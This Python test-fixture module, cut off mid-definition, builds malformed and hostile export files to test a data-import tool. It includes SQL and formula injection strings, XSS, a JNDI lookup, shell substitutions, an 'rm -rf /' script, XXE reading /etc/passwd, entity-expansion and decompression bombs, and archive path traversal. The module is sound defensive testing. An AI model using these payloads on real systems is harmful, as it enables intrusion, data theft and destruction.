"""Malformed and hostile exports: named seeds, each of which makes its files anew in a folder.

Adding one is one entry. What each must come to stands beside it in ``hostile.json``: the exit code and,
of a load, the contacts kept and the rows refused.
"""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import os
import socket
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import xlsxwriter

CANARY = "Canary Quillfeather 8317"
"""Stands in an unmapped column of every ordinary export: it may appear nowhere, whatever happens."""

HEADER = ["Form", "When", "Area", "Force", "Signed", "Subject Name"]
MAPPING = """
[mapping]
key = "Form"
source = "forms"
not_recorded = ["-"]
[agency]
agency_id = "TEST"
time_zone = "America/Denver"
[contacts.columns]
contact_at = "When"
district_id = "Area"
[contacts.columns.force_used]
from = "Force"
map = { X = "yes", O = "no" }
"""
CANONICAL = "canonical"
Made = tuple[list[Path | str], str]
"""The files as they are named to the command, and a mapping: its text, or the name of a shipped one."""
Maker = Callable[[Path], Made]
SEEDS: dict[str, Maker] = {}


def cells(i: int, **other: str) -> list[str]:
    own = {
        "Form": f"F{i:04d}",
        "When": f"2024-03-{i % 28 + 1:02d} 10:00",
        "Area": "AB"[i % 2],
        "Force": "XO"[i % 2],
        "Signed": "y",
        "Subject Name": CANARY,
    }
    return list((own | other).values())


def lines(*rows: list[str], header: list[str] = HEADER, sep: str = ",", end: str = "\n") -> str:
    return "".join(sep.join(row) + end for row in [header, *rows])


GOOD = [cells(i) for i in range(40)]
TEXT = lines(*GOOD)
ACCENTED = lines(*GOOD, cells(90, Area="Peñasco Zürich"))


def file(data: bytes | str, name: str = "export.csv", mapping: str = MAPPING) -> Maker:
    def make(folder: Path) -> Made:
        path = folder / name
        path.write_bytes(data.encode() if isinstance(data, str) else data)
        return [path], mapping

    return make


def with_value(column: str, value: str) -> Maker:
    """Forty good rows and one with this value, quoted as CSV has it."""
    quoted = '"' + value.replace('"', '""') + '"'
    return file(lines(*GOOD, cells(90, **{column: quoted})))


def with_header(name: str, mapped: bool = False) -> Maker:
    """A column more of this name; ``mapped`` makes it the district of the mapping as well."""
    quoted = '"' + name.replace('"', '""') + '"'
    text = lines(*([*row, "v"] for row in GOOD), header=[*HEADER, quoted])
    toml = name.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n").replace("\r", "\\r")
    toml = "".join(c if c.isprintable() else f"\\u{ord(c):04x}" for c in toml)
    return (
        file(text, mapping=MAPPING.replace('district_id = "Area"', f'district_id = "{toml}"'))
        if mapped
        else file(text)
    )


def mapped(toml: str) -> Maker:
    return file(TEXT, mapping=toml)


def add(prefix: str, **makers: Maker) -> None:
    for name, maker in makers.items():
        SEEDS[f"{prefix}: {name.replace('_', ' ')}"] = maker


# Encodings
for _name in ("utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-7", "cp037", "cp1252",
              "mac_roman", "latin-1", "cp850"):  # fmt: skip
    SEEDS[f"encoding: {_name}"] = file(ACCENTED.encode(_name))
for _name, _word in (
    ("shift_jis", "日本"),
    ("gb18030", "北京市"),
    ("koi8-r", "Север"),
    ("big5", "北區"),
):
    SEEDS[f"encoding: {_name}"] = file(lines(*GOOD, cells(90, Area=_word)).encode(_name))
add(
    "encoding",
    two_byte_order_marks=file(b"\xef\xbb\xbf\xef\xbb\xbf" + TEXT.encode()),
    a_byte_order_mark_in_the_middle=file(
        TEXT.encode() + b"\xef\xbb\xbf" + ",".join(cells(91)).encode() + b"\n"
    ),
    cut_in_a_letter=file(ACCENTED.encode().rstrip(b"\n") + b"\xc3"),
    overlong_utf8=file(TEXT.encode() + b"F99,2024-03-01 10:00,\xc0\xaf,X,y,n\n"),
    surrogates=file(TEXT.encode() + b"F99,2024-03-01 10:00,\xed\xa0\x80\xed\xb0\x80,X,y,n\n"),
    lone_continuation=file(TEXT.encode() + b"F99,2024-03-01 10:00,\x80\x81,X,y,n\n"),
    mixed=file(ACCENTED.encode() + ",".join(cells(92, Area="Zürich")).encode("latin-1") + b"\n"),
    ff_bytes=file(b"\xff" * 4000),
    random_bytes=file(bytes((i * 7919 + i // 251) % 256 for i in range(20_000))),
)

# Control characters and letters that are not what they seem
for _name, _char in (
    ("escape", "\x1b[31mred\x1b]0;t\x07"), ("bell", "\x07"), ("backspace", "A\x08B"),
    ("delete", "A\x7f"), ("vertical tab", "A\x0bB"), ("form feed", "A\x0cB"), ("end of file", "A\x1aB"),
    ("next line", "A\x85B"), ("line separator", "A\u2028B"), ("right to left", "A\u202egnp.exe"),
    ("isolate", "\u2066A\u2069"), ("zero width", "A\u200bB"), ("no-break", "A\u00a0B"),
    ("combining", "A" + "\u0301" * 70), ("emoji", "👩‍👩‍👧‍👦"), ("private use", "\ue000"),
    ("beyond the plane", "\U0001f600"), ("not a character", "\ufffe"),
):  # fmt: skip
    SEEDS[f"letters: {_name} in a value"] = with_value("Area", _char)
add(
    "letters",
    nul_in_a_value=file(TEXT.encode() + b"F99,2024-03-01 10:00,A\x00B,X,y,n\n"),
    nul_in_the_header=file(TEXT.encode().replace(b"Area", b"Ar\x00ea")),
    nul_at_the_end=file(TEXT.encode() + b"\x00" * 4096),
    only_nul=file(b"\x00" * 100_000),
    right_to_left_in_the_header=with_header("\u202eaerA"),
    zero_width_header=with_header("Are\u200ba", mapped=True),
    escape_in_the_header=with_header("\x1b[2JArea"),
    escape_in_the_key=with_value("Form", "\x1b[2J"),
)

# Quotes, delimiters, lines
add(
    "csv",
    open_quote_in_the_header=file('"' + TEXT),
    open_quote_first_row=file(TEXT.replace("F0000", '"F0000', 1)),
    open_quote_last_row=file(TEXT + '"F99,2024-03-01 10:00,A,X,y,n\n'),
    open_quote_over_a_long_file=file(lines(['"F9', "x"], *[cells(i) for i in range(9000)])),
    quote_in_the_middle=with_value("Area", 'A"B'),
    bare_quote=file(TEXT + 'F99,2024-03-01 10:00,A"B"C,X,y,n\n'),
    backslash_quote=file(TEXT + 'F99,2024-03-01 10:00,"A\\"B",X,y,n\n'),
    single_quotes=file(TEXT.replace("A,", "'A',")),
    newline_in_a_value=with_value("Area", "A\nB"),
    many_newlines_in_a_value=with_value("Subject Name", "\n" * 20_000),
    semicolons=file(lines(*GOOD, sep=";")),
    tabs=file(lines(*GOOD, sep="\t")),
    pipes=file(lines(*GOOD, sep="|")),
    carets=file(lines(*GOOD, sep="^")),
    two_delimiters=file(TEXT + ";".join(cells(91)) + "\n"),
    decimal_commas=file(lines(*([*c[:3], '"1,5"', *c[4:]] for c in GOOD))),
    excel_sep_line=file("sep=,\n" + TEXT),
    only_delimiters=file(",,,,,\n" * 100),
    one_column=file("Form\n" + "\n".join(c[0] for c in GOOD)),
    trailing_delimiters=file(TEXT.replace("\n", ",\n")),
    carriage_returns_only=file(lines(*GOOD, end="\r")),
    windows_lines=file(lines(*GOOD, end="\r\n")),
    mixed_lines=file(lines(*GOOD[:20], end="\r\n") + lines(*GOOD[20:]).split("\n", 1)[1]),
    no_last_newline=file(TEXT.rstrip("\n")),
    blank_lines_first=file("\n\n\n" + TEXT),
    blank_lines_between=file(TEXT.replace("\n", "\n\n")),
    comment_first=file("# exported by RMS\n" + TEXT),
    title_first=file("Crisis contacts 2024,,,,,\n" + TEXT),
    header_again=file(TEXT + TEXT),
    total_row=file(TEXT + "Total,40,,,,\n"),
    short_row=file(TEXT + "F99,2024-03-01 10:00\n"),
    long_row=file(TEXT + ",".join(cells(91)) + ",a,b,c\n"),
    many_short_rows=file(TEXT + "F99,2024-03-01 10:00\n" * 20),
    header_only=file(lines()),
    empty=file(b""),
    blank=file("\n \n\n"),
    one_newline=file("\n"),
    two_million_blank_lines=file("\n" * 2_000_000),
    a_field_of_20_mb=with_value("Subject Name", "x" * 20_000_000),
    a_line_of_30_mb=file("x" * 30_000_000),
    a_label_of_10_000=with_value("Area", "x" * 10_000),
    a_key_of_100_000=with_value("Form", "x" * 100_000),
    a_thousand_columns=file(
        lines(
            *([*c, *["v"] * 1000] for c in GOOD[:3]),
            header=[*HEADER, *(f"c{i}" for i in range(1000))],
        )
    ),
    a_hundred_thousand_columns=file(
        lines([*GOOD[0], *["v"] * 100_000], header=[*HEADER, *(f"c{i}" for i in range(100_000))])
    ),
    a_million_columns=file(
        ",".join(f"c{i}" for i in range(1_000_000)) + "\n" + "," * 999_999 + "\n"
    ),
    a_million_commas=file(TEXT + "," * 1_000_000 + "\n"),
    a_page=file("<!DOCTYPE html>\n<script>alert(1)</script>\n<p>Log in, please</p>\n"),
    json=file('[{"Form": "F1", "When": "2024-03-01", "Area": "A"}]\n'),
    pdf=file(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + b"0" * 999),
    rich_text=file("{\\rtf1 Form,When,Area}\n"),
    a_script=file("#!/bin/sh\nrm -rf /\n"),
    sql_dump=file("INSERT INTO contacts VALUES (1);\nDROP TABLE contacts;\n"),
    same_row_5000_times=file(lines(*GOOD[:1] * 5000)),
)

# Headers
for _name in (
    'x"; DROP TABLE contacts; --', "x'; DROP TABLE contacts; --", "rowid", "row_hash", "file_no", "skip",
    "blank", "select", "rn", "key_raw", "*", "{}", "%s", "$1", "?", "=1+1", "<img src=x onerror=x()>",
    "a\nb", "a\tb", "a,b", "\\", "x" * 10_000, "💥", "filename", "v", "s", "1", "''", "columns",
):  # fmt: skip
    SEEDS[f"header: {_name[:24]!r}"] = with_header(_name)
    SEEDS[f"header: {_name[:24]!r} mapped"] = with_header(_name, mapped=True)
add(
    "header",
    named_twice=file(TEXT.replace("Signed", "Form", 1)),
    named_twice_but_for_case=file(TEXT.replace("Signed", "form", 1)),
    named_twice_but_for_space=file(TEXT.replace("Signed", " Form ", 1)),
    nameless=file(TEXT.replace("Signed", "", 1)),
    all_nameless=file(",,,,,\n" + TEXT.split("\n", 1)[1]),
    called_as_a_nameless_one=file(TEXT.replace("Signed", "", 1).replace("Area", "(column 5)", 1)),
    no_header=file(TEXT.split("\n", 1)[1]),
    in_capitals=file(TEXT.replace("Form", "FORM", 1)),
)

# Values
for _name in (
    "0000-00-00", "9999-12-31 23:59", "1969-12-31 23:59", "1900-01-01", "2100-01-01", "2024-02-31",
    "2023-02-29", "2024-03-01 24:00", "2024-03-01 25:00", "2024-03-01 10:60", "45352", "45352.5",
    "-0044-03-15", "12024-03-01", "2024-3-1 1:2", "03/01/2024", "31/12/2024", "1 Mar 2024", "Mar 1, 2024",
    "2024-03-10 02:30", "2024-11-03 01:30", "2024-03-01T10:00Z", "2024-03-01T10:00+14:00",
    "2024-03-01T10:00+99:99", "2024-03-01 10:00 America/Denver", "2024-03-01 10:00 PM", "infinity",
    "-infinity", "epoch", "now", "today", "NaN", "NULL", "1e308", "1709287200", "1709287200000",
    "٢٠٢٤-٠٣-٠١", "２０２４-03-01", "2024−03−01", "'; DROP TABLE contacts; --",
    "2024-03-01 10:00:00.1234567890", "290309-12-22", "2024-W10", "20240301",
    "2024-03-01 10:00; 2024-03-02 11:00",
):  # fmt: skip
    SEEDS[f"date: {_name}"] = with_value("When", _name)
for _name in (
    "'; DROP TABLE contacts; --", '"; DROP TABLE contacts; --', "1' OR '1'='1", "$$", "=cmd|' /C calc'!A0",
    "+1", "-1", "@SUM(A1)", "<script>window.__x=1</script>", "![x](//zq.invalid/x)", "../../etc/passwd",
    "%n%s%x", "{0.__class__}", "${jndi:ldap://zq.invalid}", "`id`", "$(id)", "\\", "%", "_", "*", "''", "NULL",
    "123-45-6789", "quill@zq.invalid", "303-555-0199", "Quillfeather, Canary", "x" * 81,
):  # fmt: skip
    SEEDS[f"label: {_name[:40]}"] = with_value("Area", _name)
    SEEDS[f"key: {_name[:40]}"] = with_value("Form", _name)
    SEEDS[f"code: {_name[:40]}"] = with_value("Force", _name)
add(
    "value",
    every_key_a_name=file(
        lines(*(cells(i, Form=f"{chr(65 + i)}oe {chr(65 + i)}ane") for i in range(20)))
    ),
    every_key_a_number_of_security=file(
        lines(*(cells(i, Form=f"123-45-{i:04d}") for i in range(20)))
    ),
    every_key_a_birth_date=file(lines(*(cells(i, Form=f"1980-01-{i + 1:02d}") for i in range(20)))),
    every_key_blank=file(lines(*(cells(i, Form="") for i in range(20)))),
    every_date_wrong=file(lines(*(cells(i, When="soon") for i in range(20)))),
    every_date_in_the_future=file(lines(*(cells(i, When="2999-01-01") for i in range(20)))),
    every_code_unlike=file(lines(*(cells(i, Force=f"code {i}") for i in range(3000)))),
    every_label_unlike=file(lines(*(cells(i, Area=f"area {i}") for i in range(3000)))),
    names_as_codes=file(
        lines(*GOOD, *(cells(50 + i, Force="Quillfeather, Canary") for i in range(5)))
    ),
)


# Archives
def _bomb(megabytes: int, row: bytes) -> bytes:
    buffer = io.BytesIO()
    with gzip.GzipFile(fileobj=buffer, mode="wb", compresslevel=9, mtime=0) as out:
        out.write(TEXT.encode())
        chunk = row * ((1 << 20) // len(row))
        for _ in range(megabytes):
            out.write(chunk)
    return buffer.getvalue()


def late(
    make: Callable[[], bytes | str], name: str = "export.csv", mapping: str = MAPPING
) -> Maker:
    """Made only when asked for: what takes time or memory to make."""
    return lambda folder: file(make(), name, mapping)(folder)


_ZIPPED = gzip.compress(TEXT.encode(), mtime=0)


def _tar() -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as out:
        member = tarfile.TarInfo("../../evil.csv")
        member.size = len(TEXT)
        out.addfile(member, io.BytesIO(TEXT.encode()))
    return buffer.getvalue()


def _zip(**members: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as out:
        for name, data in members.items():
            out.writestr(name, data)
    return buffer.getvalue()


add(
    "gzip",
    good=file(_ZIPPED, "export.csv.gz"),
    good_without_the_ending=file(_ZIPPED),
    not_gzip=file(TEXT, "export.csv.gz"),
    cut_short=file(_ZIPPED[:-12], "export.csv.gz"),
    cut_to_its_head=file(_ZIPPED[:10], "export.csv.gz"),
    damaged=file(_ZIPPED[:40] + b"x" * 60 + _ZIPPED[100:], "export.csv.gz"),
    wrong_checksum=file(_ZIPPED[:-8] + b"\0" * 8, "export.csv.gz"),
    wrong_length=file(_ZIPPED[:-4] + b"\0" * 4, "export.csv.gz"),
    followed_by_garbage=file(_ZIPPED + b"garbage", "export.csv.gz"),
    two_members=file(
        _ZIPPED + gzip.compress(",".join(cells(91)).encode() + b"\n", mtime=0), "export.csv.gz"
    ),
    twice=file(gzip.compress(_ZIPPED, mtime=0), "export.csv.gz"),
    empty_inside=file(gzip.compress(b""), "export.csv.gz"),
    a_path_in_its_head=file(
        _ZIPPED[:3] + b"\x08" + _ZIPPED[4:10] + b"../../evil\0" + _ZIPPED[10:], "export.csv.gz"
    ),
    bomb_of_nul=late(lambda: gzip.compress(b"\0" * 300_000_000, mtime=0), "export.csv.gz"),
    bomb_of_blank_lines=late(lambda: _bomb(64, b"\n"), "export.csv.gz"),
    bomb_of_one_line=late(lambda: _bomb(256, b"x"), "export.csv.gz"),
    bomb_of_one_row=late(lambda: _bomb(64, ",".join(cells(7)).encode() + b"\n"), "export.csv.gz"),
    zip_instead=file(_zip(a=TEXT.encode()), "export.csv.gz"),
    tar=file(_tar(), "export.tar.gz"),
    bzip2=file(bz2.compress(TEXT.encode()), "export.csv.bz2"),
    xz=file(lzma.compress(TEXT.encode()), "export.csv.xz"),
    zlib=file(zlib.compress(TEXT.encode())),
    zip=file(_zip(a=TEXT.encode()), "export.zip"),
)


# Excel
def sheet(**options: object) -> bytes:
    """The good rows as an Excel file; ``options`` change one thing."""
    buffer = io.BytesIO()
    with xlsxwriter.Workbook(buffer, {"in_memory": True}) as book:
        one = book.add_worksheet(str(options.get("name", "Sheet1")))
        if options.get("hidden"):
            book.add_worksheet("Other").activate()
            one.hide()
        for r, row in enumerate([HEADER, *GOOD]):
            for c, value in enumerate(row):
                one.write_string(r, c, value)
        for place, value in dict(options.get("formulas", {})).items():  # type: ignore[call-overload]
            one.write_formula(place, value, None, options.get("cached", 0))
        for place, value in dict(options.get("numbers", {})).items():  # type: ignore[call-overload]
            one.write_number(place, value)
        if options.get("links"):
            for i, url in enumerate(
                ("http://zq.invalid/x", "file:///etc/passwd", "external:..\\x.xlsx#A!A1")
            ):
                one.write_url(50 + i, 2, url)
        if options.get("merged"):
            one.merge_range(60, 0, 62, 3, "merged")
        if options.get("far"):
            one.write_string(1_048_575, 16_383, "far")
    return buffer.getvalue()


def changed(member: str, data: bytes, base: bytes | None = None) -> bytes:
    """The good Excel file with a member put in or changed."""
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(base or sheet())) as old,
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for name in old.namelist():
            if name != member:
                new.writestr(name, old.read(name))
        new.writestr(member, data)
    return buffer.getvalue()


_SHEET = "xl/worksheets/sheet1.xml"
_OPEN = b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
_CLOSE = b"</sheetData></worksheet>"
_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">'
    + b"".join(
        f'<!ENTITY {c} "{f"&{p};" * 10}">'.encode()
        for p, c in zip("abcdefgh", "bcdefghi", strict=True)
    )
    + b"]><worksheet><sheetData><row><c t='inlineStr'><is><t>&i;</t></is></c></row></sheetData></worksheet>"
)
_XXE = (
    b'<?xml version="1.0"?><!DOCTYPE f [<!ENTITY x SYSTEM "file:///etc/passwd">]><worksheet><sheetData><row>'
    b"<c t='inlineStr'><is><t>&x;</t></is></c></row></sheetData></worksheet>"
)
X = "export.xlsx"
add(
    "excel",
    good=late(sheet, X),
    not_excel=file("no sheet", X),
    csv_inside=file(TEXT, X),
    empty_zip=file(_zip(), X),
    zip_without_a_book=file(_zip(a=b"b"), X),
    cut_short=late(lambda: sheet()[:-200], X),
    cut_in_the_middle=late(lambda: sheet()[:2000], X),
    encrypted=file(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4000, X),
    old_excel_garbage=file(
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(range(256)) * 8, "export.xls"
    ),
    binary_garbage=file(_zip(a=b"b"), "export.xlsb"),
    open_document_garbage=file(
        _zip(mimetype=b"application/vnd.oasis.opendocument.spreadsheet"), "export.ods"
    ),
    macros=late(lambda: changed("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0" * 99), "export.xlsm"),
    links=late(lambda: sheet(links=True), X),
    external_link=late(
        lambda: changed("xl/externalLinks/externalLink1.xml", b"<externalLink/>"), X
    ),
    formulas=late(
        lambda: sheet(formulas={"C3": '=WEBSERVICE("http://zq.invalid")', "C4": "=1+1"}), X
    ),
    formula_errors=late(lambda: sheet(formulas={"C3": "=1/0"}, cached="#DIV/0!"), X),
    serial_dates=late(lambda: sheet(numbers={"B3": 45352.5, "B4": 1e9, "B5": -5}), X),
    numbers_as_keys=late(lambda: sheet(numbers={"A3": 7497, "A4": 1e300, "A5": 0.1}), X),
    hidden=late(lambda: sheet(hidden=True), X),
    merged=late(lambda: sheet(merged=True), X),
    a_far_cell=late(lambda: sheet(far=True), X),
    sheet_missing=late(sheet, X, MAPPING + '[file]\nsheet = "Contacts"\n'),
    sheet_name_hostile=late(
        lambda: sheet(name="x'; DROP TABLE y"), X, MAPPING + '[file]\nsheet = "x\'; DROP TABLE y"\n'
    ),
    entities=late(lambda: changed(_SHEET, _LAUGHS), X),
    external_entity=late(lambda: changed(_SHEET, _XXE), X),
    not_xml=late(lambda: changed(_SHEET, b"<<<<"), X),
    no_rows=late(lambda: changed(_SHEET, _OPEN + _CLOSE), X),
    bomb=late(lambda: changed(_SHEET, _OPEN + b"<row></row>" * 12_000_000 + _CLOSE), X),
    bomb_of_cells=late(
        lambda: changed(
            _SHEET,
            _OPEN + b"<row><c t='inlineStr'><is><t>x</t></is></c></row>" * 2_000_000 + _CLOSE,
        ),
        X,
    ),
    a_lying_size=late(
        lambda: changed(
            _SHEET, _OPEN + b'<row r="999999999"><c r="ZZZ999999999"><v>1</v></c></row>' + _CLOSE
        ),
        X,
    ),
    strings_missing=late(lambda: changed("xl/sharedStrings.xml", b"<sst/>"), X),
    a_path_as_member=late(lambda: changed("../../../tmp/zq-evil", b"x"), X),
)


# Parquet
def columns(**other: object) -> bytes:
    """The good rows as Parquet, with columns put in or changed."""
    plain: dict[str, object] = {h: [r[i] for r in GOOD] for i, h in enumerate(HEADER)}
    buffer = io.BytesIO()
    pq.write_table(pa.table(plain | other), buffer)
    return buffer.getvalue()


def typed(kind: pa.DataType, value: object, column: str = "Area") -> Maker:
    return late(lambda: columns(**{column: pa.array([value] * len(GOOD), kind)}), P)


P = "export.parquet"


def _twice() -> bytes:
    buffer = io.BytesIO()
    table = pa.table([pa.array(["a"]), pa.array(["b"])], names=["Form", "Form"])
    pq.write_table(table, buffer)
    return buffer.getvalue()


add(
    "parquet",
    good=late(columns, P),
    not_parquet=file("no", P),
    magic_only=file(b"PAR1", P),
    magic_twice=file(b"PAR1PAR1", P),
    cut_short=late(lambda: columns()[:-100], P),
    without_its_start=late(lambda: columns()[100:], P),
    damaged_data=late(lambda: columns()[:30] + b"\xff" * 300 + columns()[330:], P),
    damaged_footer=late(lambda: columns()[:-300] + b"\xff" * 292 + columns()[-8:], P),
    footer_too_long=late(lambda: columns()[:-8] + struct.pack("<I", 2**31 - 1) + b"PAR1", P),
    encrypted=late(lambda: columns()[:-4] + b"PARE", P),
    no_rows=late(lambda: columns(**{h: pa.array([], pa.string()) for h in HEADER}), P),
    no_columns=late(lambda: (b := io.BytesIO(), pq.write_table(pa.table({}), b))[0].getvalue(), P),
    one_name_twice=late(_twice, P),
    struct=typed(pa.struct([("a", pa.int8())]), {"a": 1}),
    list=typed(pa.list_(pa.string()), ["a", "b"]),
    list_as_key=typed(pa.list_(pa.string()), ["a", "b"], "Form"),
    map=typed(pa.map_(pa.string(), pa.int8()), [("a", 1)]),
    deep=typed(pa.list_(pa.list_(pa.list_(pa.list_(pa.int8())))), [[[[1]]]]),
    binary=typed(pa.binary(), b"\xff\xfe\x00"),
    fixed_binary=typed(pa.binary(4), b"\x00\x01\x02\x03"),
    decimal=typed(pa.decimal128(38, 10), 1),
    large_number=typed(pa.uint64(), 2**64 - 1, "Form"),
    not_a_number_as_key=typed(pa.float64(), float("nan"), "Form"),
    infinite_key=typed(pa.float64(), float("inf"), "Form"),
    yes_no=typed(pa.bool_(), True, "Force"),
    nothing=typed(pa.null(), None),
    nothing_as_dates=typed(pa.null(), None, "When"),
    date=typed(pa.date32(), 19_800, "When"),
    last_nanosecond=typed(pa.timestamp("ns"), 2**63 - 1, "When"),
    first_microsecond=typed(pa.timestamp("us"), -(2**63) + 1, "When"),
    with_a_zone=typed(pa.timestamp("us", "Pacific/Kiritimati"), 1_709_287_200_000_000, "When"),
    time_of_day=typed(pa.time64("us"), 1, "When"),
    duration=typed(pa.duration("s"), 1),
    dictionary=typed(pa.dictionary(pa.int32(), pa.string()), "A"),
    number_as_date=typed(pa.int64(), 1_709_287_200, "When"),
    many_columns=late(lambda: columns(**{f"c{i}": ["v"] * len(GOOD) for i in range(3000)}), P),
)


# What is named to the command is no ordinary file
def _link(folder: Path, target: str) -> Made:
    path = folder / "export.csv"
    path.symlink_to(target)
    return [path], MAPPING


def _fifo(folder: Path, name: str = "export.csv") -> Made:
    os.mkfifo(folder / name)
    return [folder / name], MAPPING


def _socket(folder: Path) -> Made:
    here = Path.cwd()
    os.chdir(folder)
    try:
        with socket.socket(socket.AF_UNIX) as made:
            made.bind("export.csv")
    finally:
        os.chdir(here)
    return [folder / "export.csv"], MAPPING


def _sparse(folder: Path) -> Made:
    with (folder / "export.csv").open("wb") as out:
        out.write(TEXT.encode())
        out.truncate(1 << 40)
    return [folder / "export.csv"], MAPPING


for _name in (
    "a b.csv", "a'b.csv", 'a"b.csv', "a[1].csv", "a*.csv", "a?.csv", "-export.csv", "a;b.csv", "a\nb.csv",
    "%s.csv", "{x}.csv", "<img src=x onerror=x()>.csv", "=1+1.csv", "\u202evsc.csv", "é.csv",
    "x" * 240 + ".csv",
    "a=b.csv", ".csv", "export", "EXPORT.CSV", "a.parquet.csv",
):  # fmt: skip
    SEEDS[f"path: {_name[:30]!r}"] = file(TEXT, _name)
add(
    "path",
    missing=lambda d: ([d / "absent.csv"], MAPPING),
    folder=lambda d: ([d], MAPPING),
    empty_name=lambda d: ([""], MAPPING),
    too_long=lambda d: ([d / ("x" * 300)], MAPPING),
    nul_in_it=lambda d: ([f"{d}/a\0b.csv"], MAPPING),
    up_and_away=lambda d: ([d / ".." / ".." / "absent.csv"], MAPPING),
    web=lambda d: (["http://zq.invalid/export.csv"], MAPPING),
    object_store=lambda d: (["s3://zq/export.parquet"], MAPPING),
    standard_input=lambda d: (["-"], MAPPING),
    dangling_link=lambda d: _link(d, "absent"),
    link_to_itself=lambda d: _link(d, "export.csv"),
    link_to_a_folder=lambda d: _link(d, "."),
    link_to_a_device=lambda d: _link(d, "/dev/zero"),
    link_to_a_file=lambda d: (file(TEXT, "real.csv")(d), _link(d, "real.csv"))[1],
    fifo=_fifo,
    fifo_as_excel=lambda d: _fifo(d, "export.xlsx"),
    fifo_as_parquet=lambda d: _fifo(d, "export.parquet"),
    socket=_socket,
    device_zero=lambda d: (["/dev/zero"], MAPPING),
    device_null=lambda d: (["/dev/null"], MAPPING),
    device_random=lambda d: (["/dev/urandom"], MAPPING),
    own_memory=lambda d: (["/proc/self/mem"], MAPPING),
    kernel_file=lambda d: (["/proc/self/status"], MAPPING),
    same_file_twice=lambda d: (file(TEXT)(d)[0] * 2, MAPPING),
    two_files_of_other_columns=lambda d: (
        [*file(TEXT, "a.csv")(d)[0], *file("Form,When\nF1,2024-03-01\n", "b.csv")(d)[0]],
        MAPPING,
    ),
    a_terabyte_of_nothing=_sparse,
)

# Mappings
_C = "[contacts.columns]\n"
add(
    "mapping",
    empty=mapped("# [nothing]\n"),
    not_toml=mapped("[mapping\n"),
    deep_lists=mapped("[mapping]\nkey = " + "[" * 50_000),
    deep_closed_lists=mapped("[mapping]\nkey = " + "[" * 5_000 + "]" * 5_000),
    deep_tables=mapped("[" + ".".join(["a"] * 20_000) + "]\n"),
    huge=late(lambda: TEXT, mapping=MAPPING + "# " + "x" * 10_000_000 + "\n"),
    two_of_one=mapped(MAPPING + '[agency]\nagency_id = "B"\n'),
    nul=mapped(MAPPING.replace("forms", "fo\0rms")),
    nul_escaped=mapped(MAPPING.replace('"forms"', '"fo\\u0000rms"')),
    control_escaped=mapped(MAPPING.replace('"forms"', '"fo\\u001b[31mrms"')),
    not_utf8=lambda d: (
        d.joinpath("m.toml").write_bytes(b"# [\xff\xfe]\n"),
        (file(TEXT)(d)[0], str(d / "m.toml")),
    )[1],
    a_folder=lambda d: (file(TEXT)(d)[0], str(d)),
    absent=lambda d: (file(TEXT)(d)[0], "absent"),
    a_path_as_name=lambda d: (file(TEXT)(d)[0], "../mappings/canonical"),
    a_device=lambda d: (file(TEXT)(d)[0], "/dev/zero"),
    a_fifo=lambda d: (os.mkfifo(d / "m.toml"), (file(TEXT)(d)[0], str(d / "m.toml")))[1],
    mapping_a_text=mapped('mapping = "x"\n'),
    file_a_number=mapped("file = 3\n" + MAPPING),
    agency_a_list=mapped("agency = []\n[mapping]\nkey = 'Form'\n" + _C + "contact_at = 'When'\n"),
    contacts_a_number=mapped("contacts = 5\n[mapping]\nkey = 'Form'\n"),
    columns_a_text=mapped("[mapping]\nkey = 'Form'\n[contacts]\ncolumns = 'x'\n"),
    a_column_a_number=mapped(MAPPING.replace('"Area"', "5")),
    a_column_a_list=mapped(MAPPING.replace('"Area"', '["Area"]')),
    a_column_a_date=mapped(MAPPING.replace('"Area"', "2024-01-01")),
    a_column_empty=mapped(MAPPING.replace('"Area"', '""')),
    map_a_list=mapped(MAPPING.replace('{ X = "yes", O = "no" }', "[1]")),
    map_of_tables=mapped(MAPPING.replace('X = "yes"', "X = { a = 1 }")),
    map_empty=mapped(MAPPING.replace('{ X = "yes", O = "no" }', "{}")),
    map_of_stars=mapped(MAPPING.replace("X =", f'"{"*a" * 500}*" = "yes", X =')),
    map_of_stars_met=late(
        lambda: lines(*GOOD, cells(90, Force="a" * 20_000 + "b")),
        mapping=MAPPING.replace("X =", f'"{"*a" * 200}*c" = "yes", X ='),
    ),
    map_of_sql=mapped(MAPPING.replace("X =", '"\' OR 1=1; --" = "yes", X =')),
    map_of_20_000=late(
        lambda: TEXT,
        mapping=MAPPING.replace("X =", "".join(f'"v{i}" = "yes", ' for i in range(20_000)) + "X ="),
    ),
    not_recorded_a_number=mapped(MAPPING.replace('["-"]', "5")),
    not_recorded_everything=mapped(MAPPING.replace('["-"]', '["*"]')),
    key_empty=mapped(MAPPING.replace('"Form"', '""')),
    key_a_number=mapped(MAPPING.replace('"Form"', "5")),
    key_an_identity=mapped(MAPPING.replace('"Form"', '"Subject Name"')),
    key_of_a_thousand=mapped(MAPPING.replace('key = "Form"', "key = [" + '"Form", ' * 1000 + "]")),
    zone_a_path=mapped(MAPPING.replace("America/Denver", "../../../etc/passwd")),
    zone_absolute=mapped(MAPPING.replace("America/Denver", "/etc/localtime")),
    zone_of_sql=mapped(MAPPING.replace("America/Denver", "UTC'); DROP TABLE x; --")),
    zone_empty=mapped(MAPPING.replace("America/Denver", "")),
    zone_long=mapped(MAPPING.replace("America/Denver", "A" * 5000)),
    zone_nul=mapped(MAPPING.replace("America/Denver", "A\\u0000")),
    agency_hostile=mapped(MAPPING.replace('"TEST"', '"x\'; DROP TABLE contacts; --"')),
    agency_long=mapped(MAPPING.replace('"TEST"', f'"{"x" * 400}"')),
